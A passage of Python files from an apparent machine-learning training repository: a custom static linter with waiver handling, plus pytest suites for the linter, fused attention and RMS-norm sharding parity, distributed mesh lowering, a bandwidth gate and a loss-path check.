Run:    python -m tools.kolint [--json] [--repo PATH]
Exit:   0 clean (waived findings allowed), 1 unwaived findings,
        2 broken waiver file.

The runtime companion — the lock-order race detector that these static
rules cannot replace — is kubeoperator_trn/telemetry/locktrace.py.
"""

import argparse
import ast
import dataclasses
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
WAIVERS_PATH = os.path.join(HERE, "waivers.toml")

#: roots scanned (repo-relative file or directory).  tests/ is excluded
#: on purpose: fixtures there violate rules deliberately, and local
#: thread spawn/join in tests is not production lock hygiene.
SCAN_ROOTS = ("kubeoperator_trn", "tools", "bench.py", "__graft_entry__.py")
SKIP_DIRS = {"__pycache__", ".git", ".pytest_cache"}


@dataclasses.dataclass
class Finding:
    rule: str
    path: str          # repo-relative, posix separators
    line: int
    msg: str
    waived: bool = False

    def format(self) -> str:
        tag = " (waived)" if self.waived else ""
        return f"{self.rule} {self.path}:{self.line}: {self.msg}{tag}"


# -- waiver file --------------------------------------------------------
#
# Python 3.10 has no tomllib, so parse the TOML subset we actually use:
# comments, blank lines, ``[[waiver]]`` array-of-tables headers, and
# ``key = "quoted string"`` pairs.

def parse_waivers(text: str, origin: str = "waivers.toml"):
    """-> (waivers, errors).  Each waiver is a dict; every structural or
    policy problem (unquoted value, missing rule/file, empty reason)
    lands in errors."""
    waivers, errors = [], []
    cur = None
    for ln, raw in enumerate(text.splitlines(), 1):
        line = raw.strip()
        if not line or line.startswith("#"):
            continue
        if line == "[[waiver]]":
            cur = {"_line": ln}
            waivers.append(cur)
            continue
        if line.startswith("["):
            errors.append(f"{origin}:{ln}: unsupported table {line!r} "
                          "(only [[waiver]] blocks)")
            cur = None
            continue
        key, eq, val = line.partition("=")
        key, val = key.strip(), val.strip()
        if not eq or cur is None:
            errors.append(f"{origin}:{ln}: cannot parse {line!r}")
            continue
        if len(val) >= 2 and val[0] == val[-1] and val[0] in "\"'":
            cur[key] = val[1:-1]
        else:
            errors.append(f"{origin}:{ln}: value for {key!r} must be a "
                          "quoted string")
    for w in waivers:
        where = f"{origin}:{w['_line']}"
        for req in ("rule", "file"):
            if not w.get(req):
                errors.append(f"{where}: waiver missing {req!r}")
        if not w.get("reason", "").strip():
            errors.append(f"{where}: waiver for {w.get('rule', '?')} "
                          f"{w.get('file', '?')} has no justification "
                          "(non-empty reason = \"...\" required)")
    return waivers, errors


def load_waivers(path: str = WAIVERS_PATH):
    if not os.path.exists(path):
        return [], []
    with open(path, encoding="utf-8") as f:
        return parse_waivers(f.read(), origin=os.path.basename(path))


def waiver_matches(w: dict, f: Finding) -> bool:
    if w.get("rule") != f.rule or w.get("file") != f.path:
        return False
    return w.get("match", "") in f.msg   # "" is in everything


# -- repo walk + rule driver -------------------------------------------

def iter_py_files(repo: str):
    """Yield repo-relative posix paths of the .py files kolint scans."""
    for root in SCAN_ROOTS:
        path = os.path.join(repo, root)
        if os.path.isfile(path):
            yield root
            continue
        for dp, dns, fns in os.walk(path):
            dns[:] = sorted(d for d in dns if d not in SKIP_DIRS)
            for fn in sorted(fns):
                if fn.endswith(".py"):
                    rel = os.path.relpath(os.path.join(dp, fn), repo)
                    yield rel.replace(os.sep, "/")


def check_source(source: str, relpath: str = "snippet.py"):
    """Run the per-file rules (KL001-KL006) over one source string —
    the seam tests/test_kolint.py uses for fixture snippets."""
    from tools.kolint import rules
    ctx = rules.new_context()
    found = rules.check_file(relpath, source, ctx)
    found.extend(rules.finalize(ctx))
    return found


def run_repo(repo: str = REPO, waivers_path: str = WAIVERS_PATH):
    """-> (findings, stale_waivers, waiver_errors).  Findings matched by
    a waiver come back with .waived=True rather than dropped, so the
    report can show what is being excused and why."""
    from tools.kolint import knobs, rules

    waivers, errors = load_waivers(waivers_path)
    findings = []
    ctx = rules.new_context()
    for rel in iter_py_files(repo):
        try:
            with open(os.path.join(repo, rel), encoding="utf-8") as f:
                source = f.read()
        except OSError:
            continue
        findings.extend(rules.check_file(rel, source, ctx))
    findings.extend(rules.finalize(ctx))
    findings.extend(knobs.check_repo(repo))

    used = set()
    for f in findings:
        for i, w in enumerate(waivers):
            if waiver_matches(w, f):
                f.waived = True
                used.add(i)
                break
    stale = [w for i, w in enumerate(waivers) if i not in used]
    findings.sort(key=lambda f: (f.rule, f.path, f.line))
    return findings, stale, errors


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(
        prog="kolint", description="repo-invariant static analysis")
    ap.add_argument("--repo", default=REPO)
    ap.add_argument("--waivers", default=WAIVERS_PATH)
    ap.add_argument("--json", action="store_true",
                    help="machine-readable report on stdout")
    args = ap.parse_args(argv)

    findings, stale, errors = run_repo(args.repo, args.waivers)
    live = [f for f in findings if not f.waived]
    waived = [f for f in findings if f.waived]

    if args.json:
        print(json.dumps({
            "findings": [dataclasses.asdict(f) for f in findings],
            "stale_waivers": [{k: v for k, v in w.items() if k != "_line"}
                              for w in stale],
            "waiver_errors": errors,
            "ok": not live and not errors,
        }, indent=2))
    else:
        for e in errors:
            print(f"kolint: ERROR {e}", file=sys.stderr)
        for w in stale:
            print(f"kolint: WARNING stale waiver {w.get('rule')} "
                  f"{w.get('file')} (matched nothing)", file=sys.stderr)
        for f in findings:
            out = sys.stdout if f.waived else sys.stderr
            print(f.format(), file=out)
        if live:
            print(f"kolint: {len(live)} violation(s) "
                  f"({len(waived)} waived)", file=sys.stderr)
        elif not errors:
            print(f"kolint: OK ({len(waived)} waived, "
                  f"{len(stale)} stale waiver(s))")

    if errors:
        return 2
    return 1 if live else 0
