"""kolint checker-engine tests (ISSUE 14): per-rule fixture snippets
(one clean, one violating, one waived), the waiver-policy contract
(non-empty justification required, stale waivers surfaced), the
mini-TOML parser, and the tier-1 gate — the full suite must run clean
against this repo.
"""

import json
import os
import subprocess
import sys
import textwrap

import pytest

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, REPO) if REPO not in sys.path else None

from tools.kolint import (  # noqa: E402
    check_source, load_waivers, main as kolint_main, parse_waivers,
    run_repo)
from tools.kolint import knobs  # noqa: E402


def check(src, relpath="kubeoperator_trn/cluster/snippet.py"):
    return check_source(textwrap.dedent(src), relpath)


def codes(findings):
    return [f.rule for f in findings]


# -- KL001: blocking call under a held lock -----------------------------

def test_kl001_fires_on_sleep_under_lock():
    fs = check("""
        import threading, time
        lock = threading.Lock()
        def poll():
            with lock:
                time.sleep(1.0)
    """)
    assert codes(fs) == ["KL001"] and "time.sleep" in fs[0].msg


def test_kl001_flags_subprocess_urlopen_result_join():
    fs = check("""
        import subprocess, urllib.request
        def f(self):
            with self._lock:
                subprocess.run(["x"])
                urllib.request.urlopen("http://y")
                fut.result()
                t.join(5.0)
    """)
    assert codes(fs) == ["KL001"] * 4


def test_kl001_clean_when_io_moved_outside():
    fs = check("""
        import time
        def poll(self):
            with self._lock:
                targets = list(self.targets)
            time.sleep(0.1)
    """)
    assert fs == []


def test_kl001_ignores_deferred_defs_and_str_join():
    # a def inside the with body runs later, not under the lock; one
    # non-numeric positional arg is str.join, not thread.join
    fs = check("""
        def f(self):
            with self._lock:
                def cb():
                    time.sleep(1)
                label = ", ".join(self.names)
                return cb
    """)
    assert fs == []


# -- KL002: persistence writes bypassing tmp+fsync+replace --------------

def test_kl002_fires_on_inplace_write():
    fs = check("""
        import json
        def save(path, obj):
            with open(path, "w") as f:
                json.dump(obj, f)
    """)
    assert codes(fs) == ["KL002"]


def test_kl002_clean_when_staged_through_replace():
    fs = check("""
        import json, os
        def save(path, obj):
            tmp = path + ".tmp"
            with open(tmp, "w") as f:
                json.dump(obj, f)
                os.fsync(f.fileno())
            os.replace(tmp, path)
    """)
    assert fs == []


def test_kl002_ignores_reads():
    assert check("""
        def load(path):
            with open(path) as f:
                return f.read()
    """) == []


# -- KL003: one-hot/eye in models//kernels/ -----------------------------

def test_kl003_fires_under_models_only():
    src = """
        import jax
        def dispatch(idx, e):
            return jax.nn.one_hot(idx, e)
    """
    assert codes(check(src, "kubeoperator_trn/models/x.py")) == ["KL003"]
    assert codes(check(src, "kubeoperator_trn/kernels/x.py")) == ["KL003"]
    assert check(src, "kubeoperator_trn/train/x.py") == []


def test_kl003_flags_eye():
    fs = check("""
        import jax.numpy as jnp
        def ident(n):
            return jnp.eye(n)
    """, "kubeoperator_trn/models/x.py")
    assert codes(fs) == ["KL003"]


# -- KL004: metric naming + collisions ----------------------------------

def test_kl004_fires_on_off_scheme_name():
    fs = check("""
        def m(reg):
            return reg.counter("ko_gateway_requests", "help")
    """)
    assert codes(fs) == ["KL004"] and "scheme" in fs[0].msg


def test_kl004_clean_on_scheme_name():
    assert check("""
        def m(reg):
            return reg.counter("ko_ops_gateway_requests_total", "help",
                               ("code",))
    """) == []


def test_kl004_cross_file_kind_collision():
    from tools.kolint import rules
    ctx = rules.new_context()
    rules.check_file("a.py", 'def f(r): r.counter("ko_ops_x_y", "h")', ctx)
    rules.check_file("b.py", 'def g(r): r.gauge("ko_ops_x_y", "h")', ctx)
    fs = rules.finalize(ctx)
    assert codes(fs) == ["KL004"] and "collision" in fs[0].msg


# -- KL005: custom_vjp without defvjp -----------------------------------

def test_kl005_fires_without_defvjp():
    fs = check("""
        import jax
        def g(x):
            return x
        f = jax.custom_vjp(g)
    """)
    assert codes(fs) == ["KL005"]


def test_kl005_clean_with_defvjp():
    assert check("""
        import jax
        f = jax.custom_vjp(g)
        f.defvjp(fwd, bwd)
    """) == []


# -- KL006: threads neither daemon nor joined ---------------------------

def test_kl006_fires_on_orphan_thread():
    fs = check("""
        import threading
        def go():
            t = threading.Thread(target=work)
            t.start()
    """)
    assert codes(fs) == ["KL006"]


def test_kl006_clean_daemon_or_joined():
    assert check("""
        import threading
        def go():
            threading.Thread(target=work, daemon=True).start()
    """) == []
    assert check("""
        import threading
        class S:
            def start(self):
                self._t = threading.Thread(target=self.run)
                self._t.start()
            def stop(self):
                self._t.join()
    """) == []


# -- KL007: knob lint ---------------------------------------------------

def test_kl007_fires_on_undocumented_knob(tmp_path):
    pkg = tmp_path / "kubeoperator_trn"
    pkg.mkdir()
    (pkg / "mod.py").write_text('X = os.environ.get("KO_BOGUS_KNOB")\n')
    (tmp_path / "README.md").write_text("## Knobs\n\n| knob | d | m |\n")
    fs = knobs.check_repo(str(tmp_path))
    assert codes(fs) == ["KL007"] and "KO_BOGUS_KNOB" in fs[0].msg


# -- waiver policy ------------------------------------------------------

WAIVER_OK = '''
[[waiver]]
rule = "KL003"
file = "kubeoperator_trn/models/bad.py"
reason = "gated parity fallback"
'''


def _tmp_repo(tmp_path, waivers_text=WAIVER_OK):
    models = tmp_path / "kubeoperator_trn" / "models"
    models.mkdir(parents=True)
    (models / "bad.py").write_text(
        "import jax\n\ndef f(i, e):\n    return jax.nn.one_hot(i, e)\n")
    (tmp_path / "README.md").write_text("## Knobs\n")
    wv = tmp_path / "waivers.toml"
    wv.write_text(waivers_text)
    return str(tmp_path), str(wv)


def test_waived_finding_is_suppressed_but_reported(tmp_path):
    repo, wv = _tmp_repo(tmp_path)
    findings, stale, errors = run_repo(repo, wv)
    assert errors == [] and stale == []
    assert codes(findings) == ["KL003"] and findings[0].waived


def test_waiver_without_reason_is_an_error(tmp_path):
    repo, wv = _tmp_repo(tmp_path, '''
[[waiver]]
rule = "KL003"
file = "kubeoperator_trn/models/bad.py"
reason = ""
''')
    _, _, errors = run_repo(repo, wv)
    assert errors and "justification" in errors[0]


def test_stale_waiver_is_surfaced(tmp_path):
    repo, wv = _tmp_repo(tmp_path, WAIVER_OK + '''
[[waiver]]
rule = "KL001"
file = "kubeoperator_trn/models/nothing.py"
reason = "covers a file that no longer exists"
''')
    findings, stale, errors = run_repo(repo, wv)
    assert errors == []
    assert len(stale) == 1 and stale[0]["rule"] == "KL001"


def test_mini_toml_parser():
    ws, errs = parse_waivers(
        '# c\n[[waiver]]\nrule = "KL001"\nfile = "a.py"\n'
        'reason = "why"\n')
    assert errs == [] and ws[0]["rule"] == "KL001"
    _, errs = parse_waivers('[[waiver]]\nrule = KL001\n')
    assert any("quoted string" in e for e in errs)
    _, errs = parse_waivers('[table]\n')
    assert any("unsupported table" in e for e in errs)


def test_repo_waivers_file_is_valid():
    waivers, errors = load_waivers()
    assert errors == []
    assert all(w.get("reason", "").strip() for w in waivers)


# -- tier-1 gate: the repo itself must be clean -------------------------

def test_repo_is_kolint_clean():
    findings, stale, errors = run_repo(REPO)
    live = [f for f in findings if not f.waived]
    assert errors == [], errors
    assert stale == [], stale
    assert live == [], [f.format() for f in live]


@pytest.mark.slow
def test_cli_exits_zero_on_repo():
    proc = subprocess.run(
        [sys.executable, "-m", "tools.kolint", "--json"], cwd=REPO,
        capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    rep = json.loads(proc.stdout)
    assert rep["ok"] is True


def test_main_returns_one_on_violation(tmp_path, capsys):
    repo, wv = _tmp_repo(tmp_path, "# no waivers\n")
    assert kolint_main(["--repo", repo, "--waivers", wv]) == 1
    assert kolint_main(["--repo", repo,
                        "--waivers", str(tmp_path / "waivers2.toml")]) == 1


def test_main_returns_two_on_broken_waivers(tmp_path):
    repo, wv = _tmp_repo(tmp_path, '[[waiver]]\nrule = "KL003"\n')
    assert kolint_main(["--repo", repo, "--waivers", wv]) == 2
