from kubeoperator_trn.utils.profiling import PhaseTimings


def test_phase_timings(tmp_path):
    pt = PhaseTimings()
    with pt.phase("a"):
        pass
    with pt.phase("b"):
        pass
    s = pt.summary()
    assert [p["name"] for p in s["phases"]] == ["a", "b"]
    assert s["total_wall_s"] >= 0
    pt.dump(str(tmp_path / "t.json"))
    import json
    assert json.load(open(tmp_path / "t.json"))["phases"]
