"""Test harness: virtual 8-device CPU mesh (SURVEY.md §4.6 — template
smoke on the CPU backend before trn2 runs).

Note: on the trn image a sitecustomize boots jax + the axon PJRT plugin
at interpreter start, so setting JAX_PLATFORMS via os.environ here is too
late — we must go through jax.config.update, which works as long as no
backend has been initialized yet (boot() registers but does not init).
XLA_FLAGS is read at CPU-client creation time, so the env assignment
still takes effect.
"""

import os

_flags = os.environ.get("XLA_FLAGS", "")
if "xla_force_host_platform_device_count" not in _flags:
    os.environ["XLA_FLAGS"] = _flags + " --xla_force_host_platform_device_count=8"
os.environ["JAX_PLATFORMS"] = "cpu"

import jax  # noqa: E402

jax.config.update("jax_platforms", "cpu")


def manifest_dict(i=0):
    """DEFAULT_MANIFESTS[i] as the plain-JSON dict the API would store —
    shared by the offline-repo/bringup/parity tests."""
    import json
    from dataclasses import asdict

    from kubeoperator_trn.cluster import entities as E

    return json.loads(json.dumps(asdict(E.DEFAULT_MANIFESTS[i])))
