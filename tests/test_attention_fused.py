"""Fused-attention parity + custom_partitioning sharding assertions.

Parity: the fused custom-VJP path (NKI forward on neuron, blockwise XLA
fallback here — same tiling/online-softmax code shape) must match the
dense reference on loss AND grads, across fp32/bf16, GQA, and ragged
seq/block combinations.

Sharding: on an 8-device CPU mesh with the fsdp8 plan, the lowered
module for both custom-partitioned ops (rms_norm_fused, fused
attention) must show batch-sharded operands — CustomSPMDPartitioning
present, per-shard shapes in the compiled module, no all-gather of the
operands.  This is the acceptance test for killing the operand-
replication caveat.
"""

import numpy as np
import pytest

import jax
import jax.numpy as jnp
from jax.sharding import Mesh, NamedSharding, PartitionSpec as P

from kubeoperator_trn.kernels.attention_nki import fused_causal_attention
from kubeoperator_trn.kernels.rmsnorm_nki import rms_norm_fused
from kubeoperator_trn.ops.attention import causal_attention
from kubeoperator_trn.parallel.mesh import AXES


def _qkv(b, s, h, kv, d, dtype, seed=0):
    rng = np.random.default_rng(seed)
    q = jnp.asarray(rng.standard_normal((b, s, h, d)), dtype)
    k = jnp.asarray(rng.standard_normal((b, s, kv, d)), dtype)
    v = jnp.asarray(rng.standard_normal((b, s, kv, d)), dtype)
    return q, k, v


def _loss(attn):
    return lambda q, k, v: jnp.sum(attn(q, k, v).astype(jnp.float32) ** 2)


CASES = [
    # (seq, heads, kv_heads, head_dim, block)  — MHA, GQA, ragged seq,
    # ragged block, single-block short-circuit
    (256, 4, 4, 16, 128),
    (256, 8, 2, 16, 128),
    (320, 4, 2, 16, 128),   # ragged: 320 % 128 != 0
    (192, 4, 2, 16, 64),    # ragged vs block: 192 % 64 == 0, != 128
    (96, 4, 2, 16, 128),    # s <= block: dense short-circuit inside
]


@pytest.mark.parametrize("s,h,kv,d,block", CASES)
def test_fused_matches_dense_fp32(s, h, kv, d, block):
    q, k, v = _qkv(2, s, h, kv, d, jnp.float32)
    ref = causal_attention(q, k, v)
    out = fused_causal_attention(q, k, v, block_size=block)
    np.testing.assert_allclose(out, ref, rtol=2e-4, atol=2e-5)

    g_ref = jax.grad(_loss(causal_attention), argnums=(0, 1, 2))(q, k, v)
    g_out = jax.grad(
        _loss(lambda *a: fused_causal_attention(*a, block_size=block)),
        argnums=(0, 1, 2))(q, k, v)
    for a, b_ in zip(g_out, g_ref):
        np.testing.assert_allclose(a, b_, rtol=1e-3, atol=1e-4)


@pytest.mark.parametrize("s,h,kv", [(256, 8, 2), (320, 4, 2)])
def test_fused_matches_dense_bf16(s, h, kv):
    q, k, v = _qkv(2, s, h, kv, 16, jnp.bfloat16)
    ref = causal_attention(q, k, v).astype(jnp.float32)
    out = fused_causal_attention(q, k, v, block_size=128)
    assert out.dtype == jnp.bfloat16
    np.testing.assert_allclose(out.astype(jnp.float32), ref,
                               rtol=2e-2, atol=2e-2)
    g_ref = jax.grad(_loss(causal_attention), argnums=(0, 1, 2))(q, k, v)
    g_out = jax.grad(
        _loss(lambda *a: fused_causal_attention(*a, block_size=128)),
        argnums=(0, 1, 2))(q, k, v)
    for a, b_ in zip(g_out, g_ref):
        np.testing.assert_allclose(a.astype(jnp.float32),
                                   b_.astype(jnp.float32),
                                   rtol=5e-2, atol=5e-2)


def test_model_loss_parity_across_impls():
    import dataclasses

    from kubeoperator_trn.models import llama

    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    rng = np.random.default_rng(3)
    batch = {
        "inputs": jnp.asarray(rng.integers(0, cfg.vocab_size, (2, 160)),
                              jnp.int32),
        "targets": jnp.asarray(rng.integers(0, cfg.vocab_size, (2, 160)),
                               jnp.int32),
    }
    losses = {}
    for impl in ("dense", "blockwise", "nki"):
        c = dataclasses.replace(cfg, attn_impl=impl)
        losses[impl] = float(llama.loss_fn(c, params, batch))
    assert losses["blockwise"] == pytest.approx(losses["dense"], rel=1e-4)
    assert losses["nki"] == pytest.approx(losses["dense"], rel=1e-4)


# ---- sharding: the custom_partitioning acceptance tests ----------------

def _fsdp8_mesh():
    if len(jax.devices()) != 8:
        pytest.skip("needs the 8-device CPU mesh (conftest XLA_FLAGS)")
    # build_mesh needs jax.sharding.AxisType (absent on this image), so
    # construct the fsdp8 plan's Mesh directly over the repo axis names.
    return Mesh(np.array(jax.devices()).reshape(1, 1, 8, 1, 1, 1), AXES)


def test_fused_attention_lowers_batch_sharded_on_fsdp8():
    mesh = _fsdp8_mesh()
    bs = NamedSharding(mesh, P(("dp", "fsdp")))
    q, k, v = _qkv(16, 256, 4, 2, 16, jnp.float32)
    q, k, v = (jax.device_put(x, bs) for x in (q, k, v))
    f = jax.jit(lambda q, k, v: fused_causal_attention(q, k, v),
                in_shardings=(bs, bs, bs), out_shardings=bs)
    lowered = f.lower(q, k, v)
    assert "CustomSPMDPartitioning" in lowered.as_text()
    compiled = lowered.compile().as_text()
    # operands arrive per-shard (16/8 = 2 rows), never full-size...
    assert "f32[2,256,4,16]" in compiled
    assert "f32[16,256,4,16]" not in compiled
    # ...and no collective re-assembles them
    assert "all-gather" not in compiled
    # numerics survive the partitioned run
    out = f(q, k, v)
    np.testing.assert_allclose(out, causal_attention(q, k, v),
                               rtol=2e-4, atol=2e-5)


def test_rms_norm_fused_lowers_batch_sharded_on_fsdp8():
    mesh = _fsdp8_mesh()
    bs = NamedSharding(mesh, P(("dp", "fsdp")))
    rng = np.random.default_rng(1)
    x = jax.device_put(
        jnp.asarray(rng.standard_normal((16, 256, 64)), jnp.float32), bs)
    scale = jnp.ones((64,), jnp.float32)
    f = jax.jit(rms_norm_fused, in_shardings=(bs, None), out_shardings=bs)
    lowered = f.lower(x, scale)
    assert "CustomSPMDPartitioning" in lowered.as_text()
    compiled = lowered.compile().as_text()
    assert "f32[2,256,64]" in compiled
    assert "f32[16,256,64]" not in compiled
    assert "all-gather" not in compiled
    from kubeoperator_trn.ops.norms import rms_norm

    np.testing.assert_allclose(f(x, scale), rms_norm(x, scale, 1e-5),
                               rtol=1e-5, atol=1e-5)


def test_model_step_with_fused_kernels_on_fsdp8():
    """End-to-end: both custom-partitioned ops inside a jitted loss on
    the fsdp8 mesh — runs, matches the unsharded value, and the lowered
    module carries the custom partitioning (no replication fallback)."""
    import dataclasses

    from kubeoperator_trn.models import llama

    mesh = _fsdp8_mesh()
    cfg = dataclasses.replace(llama.PRESETS["llama3_tiny"],
                              attn_impl="nki", fused_rmsnorm=True)
    params = llama.init_params(cfg, jax.random.key(0))
    rng = np.random.default_rng(5)
    batch = {
        "inputs": jnp.asarray(rng.integers(0, cfg.vocab_size, (16, 128)),
                              jnp.int32),
        "targets": jnp.asarray(rng.integers(0, cfg.vocab_size, (16, 128)),
                               jnp.int32),
    }
    ref = float(llama.loss_fn(cfg, params, batch))

    bs = NamedSharding(mesh, P(("dp", "fsdp")))
    sharded_batch = jax.device_put(batch, bs)
    f = jax.jit(lambda p, b: llama.loss_fn(cfg, p, b))
    assert "CustomSPMDPartitioning" in f.lower(params, sharded_batch).as_text()
    assert float(f(params, sharded_batch)) == pytest.approx(ref, rel=1e-4)
