"""tools/knob_lint.py in tier-1: every KO_* knob referenced in code must
have a row in README.md's knob table, and the linter must actually catch
an undocumented one."""

import importlib.util
import os
import subprocess
import sys

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def _load():
    spec = importlib.util.spec_from_file_location(
        "knob_lint", os.path.join(REPO, "tools", "knob_lint.py"))
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def test_repo_knobs_are_all_documented():
    missing, _stale = _load().lint()
    assert missing == [], \
        f"KO_* knobs missing from README.md's knob table: {missing}"


def test_linter_catches_undocumented_knob(tmp_path):
    mod = _load()
    pkg = tmp_path / "kubeoperator_trn"
    pkg.mkdir()
    (pkg / "x.py").write_text('import os\nV = os.environ.get("KO_BOGUS")\n')
    (tmp_path / "README.md").write_text(
        "## Knobs\n\n| knob | default | meaning |\n|---|---|---|\n"
        "| `KO_DOCUMENTED_ONLY` | `1` | present in docs, absent in code |\n")
    missing, stale = mod.lint(repo=str(tmp_path))
    assert missing == ["KO_BOGUS"]
    assert stale == ["KO_DOCUMENTED_ONLY"]


def test_linter_cli_exit_code():
    proc = subprocess.run(
        [sys.executable, os.path.join(REPO, "tools", "knob_lint.py")],
        capture_output=True, text=True, cwd=REPO)
    assert proc.returncode == 0, proc.stderr
    assert "knob_lint: OK" in proc.stdout
