"""Multi-host mesh formation (SURVEY §5.8): two REAL processes form one
jax.distributed mesh over localhost (CPU backend), build the global
4-device mesh, and LOWER the sharded train step against it — the full
multi-process program construction path.

Execution stops at lowering because this jaxlib's CPU backend refuses
multiprocess computations ("Multiprocess computations aren't
implemented on the CPU backend") — a backend limitation, not a
framework one; on trn the same init_distributed() + mesh path executes
over NeuronLink/EFA.  The lowered module is asserted to contain the
cross-process collectives.
"""

import os
import subprocess
import sys

import pytest

WORKER = r"""
import os, sys
os.environ["JAX_PLATFORMS"] = "cpu"
os.environ["XLA_FLAGS"] = "--xla_force_host_platform_device_count=2"
import jax
jax.config.update("jax_platforms", "cpu")

from kubeoperator_trn.launch import init_distributed
init_distributed()

import jax.numpy as jnp
from dataclasses import replace
from kubeoperator_trn.models import llama
from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh
from kubeoperator_trn.parallel.sharding import batch_spec
from kubeoperator_trn.train.optim import AdamWConfig
from kubeoperator_trn.train.train_step import TrainStepConfig, make_train_step

assert jax.process_count() == 2, jax.process_count()
assert len(jax.devices()) == 4, len(jax.devices())  # 2 procs x 2 local

plan = MeshPlan(dp=2, fsdp=2)
mesh = build_mesh(plan)
assert mesh.devices.size == 4
# the mesh spans BOTH processes' devices
procs = {d.process_index for d in mesh.devices.flat}
assert procs == {0, 1}, procs

cfg = replace(llama.PRESETS["llama3_tiny"], compute_dtype="float32")
tcfg = TrainStepConfig(model=cfg, optim=AdamWConfig(), plan=plan)
step, init_host, init_sharded, make_jitted, mesh = make_train_step(tcfg, mesh=mesh)

# abstract state (no compile — this backend cannot execute
# multiprocess computations); lower the full train step over the
# global mesh and check the collectives made it in
state_shape = jax.eval_shape(
    lambda k: {"params": llama.init_params(cfg, k)}, jax.random.key(0))
from kubeoperator_trn.train.optim import adamw_init
opt_shape = jax.eval_shape(
    lambda p: adamw_init(p, tcfg.optim), state_shape["params"])
state_shape = {"params": state_shape["params"], "opt": opt_shape}
jitted = make_jitted(state_shape)
batch_shape = {
    "inputs": jax.ShapeDtypeStruct((8, 32), jnp.int32),
    "targets": jax.ShapeDtypeStruct((8, 32), jnp.int32),
}
lowered = jitted.lower(state_shape, batch_shape)
hlo = lowered.as_text()
# pre-partitioning module: GSPMD inserts the collectives at compile;
# what lowering proves is the GLOBAL program — 4 partitions spanning
# both processes, with the fsdp/dp shardings annotated
assert "mhlo.num_partitions = 4" in hlo, hlo[:500]
assert "devices=[" in hlo, hlo[:500]
print(f"RANK{os.environ['KO_PROCESS_ID']} lowered "
      f"{len(hlo)} chars, 4 partitions", flush=True)
"""


@pytest.mark.skipif(os.environ.get("KO_SKIP_MULTIPROC") == "1",
                    reason="multi-process test disabled")
def test_two_process_distributed_train_step(tmp_path):
    port = 12321 + (os.getpid() % 500)
    procs = []
    for rank in range(2):
        penv = dict(os.environ)
        penv.update({
            "KO_NUM_PROCESSES": "2",
            "KO_PROCESS_ID": str(rank),
            "KO_COORDINATOR": f"127.0.0.1:{port}",
            "PYTHONPATH": os.getcwd() + os.pathsep + penv.get("PYTHONPATH", ""),
        })
        procs.append(subprocess.Popen(
            [sys.executable, "-c", WORKER], env=penv,
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
        ))
    outs = []
    for p in procs:
        try:
            out, _ = p.communicate(timeout=420)
        except subprocess.TimeoutExpired:
            p.kill()
            out, _ = p.communicate()
        outs.append(out)
    for rank, (p, out) in enumerate(zip(procs, outs)):
        assert p.returncode == 0, f"rank {rank} failed:\n{out[-3000:]}"
    for rank, out in enumerate(outs):
        assert any(l.startswith(f"RANK{rank} lowered")
                   for l in out.splitlines()), out[-1500:]
