"""fabric_check: the collective-bandwidth provisioning gate."""

import subprocess
import sys
import os


def test_allreduce_bandwidth_on_virtual_mesh():
    env = dict(os.environ)
    # sitecustomize overwrites XLA_FLAGS at startup; append in-process.
    code = (
        "import os; os.environ['XLA_FLAGS']=os.environ.get('XLA_FLAGS','')"
        "+' --xla_force_host_platform_device_count=8';"
        "import jax; jax.config.update('jax_platforms','cpu');"
        "from kubeoperator_trn.fabric_check import allreduce_bandwidth_gbps;"
        "g = allreduce_bandwidth_gbps(size_mb=1.0, iters=2);"
        "assert g > 0, g; print('gbps', g)"
    )
    res = subprocess.run([sys.executable, "-c", code], env=env,
                         capture_output=True, text=True, timeout=300,
                         cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    assert res.returncode == 0, res.stderr[-1500:]
    assert "gbps" in res.stdout


def test_cli_floor_gate():
    env = dict(os.environ)
    code = (
        "import os; os.environ['XLA_FLAGS']=os.environ.get('XLA_FLAGS','')"
        "+' --xla_force_host_platform_device_count=8';"
        "import jax; jax.config.update('jax_platforms','cpu');"
        "import sys; sys.argv=['fc','--local','--size-mb','1','--min-gbps','1e9'];"
        "from kubeoperator_trn.fabric_check import main; main()"
    )
    res = subprocess.run([sys.executable, "-c", code], env=env,
                         capture_output=True, text=True, timeout=300,
                         cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    assert res.returncode == 1  # absurd floor must fail the gate
    assert "FAILED bandwidth floor" in res.stderr
