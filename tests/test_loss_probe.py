"""Tier-1 smoke: the chunked fused CE head is the default bench path.

bench.py's loss comes from models.llama.loss_fn, which routes through
ops.losses.chunked_cross_entropy — these tests pin down that (a) the
resolved default chunk is positive (so the dense [B*S, V] logits path
is opt-in via KO_CE_CHUNK=0, not the default), (b) loss_fn actually
reaches the chunked core, and (c) the tools/loss_probe.py microbench
runs on CPU and emits sane JSON.
"""

import json
import os
import subprocess
import sys

import pytest

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def test_default_ce_chunk_is_chunked(monkeypatch):
    from kubeoperator_trn.ops import losses

    monkeypatch.delenv("KO_CE_CHUNK", raising=False)
    assert losses.resolve_ce_chunk(None) == losses.DEFAULT_CE_CHUNK > 0


def test_llama_loss_fn_defaults_to_chunked_core(monkeypatch):
    import jax
    import jax.numpy as jnp

    from kubeoperator_trn.models import llama
    from kubeoperator_trn.ops import losses

    monkeypatch.delenv("KO_CE_CHUNK", raising=False)
    calls = []
    real = losses.chunked_nll

    def spy(*args, **kwargs):
        calls.append(kwargs.get("chunk"))
        return real(*args, **kwargs)

    monkeypatch.setattr(losses, "chunked_nll", spy)

    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (2, 9), 0, cfg.vocab_size)
    batch = {"inputs": toks[:, :-1].astype(jnp.int32),
             "targets": toks[:, 1:].astype(jnp.int32)}
    loss = llama.loss_fn(cfg, params, batch)
    assert jnp.isfinite(loss)
    assert calls == [losses.DEFAULT_CE_CHUNK]
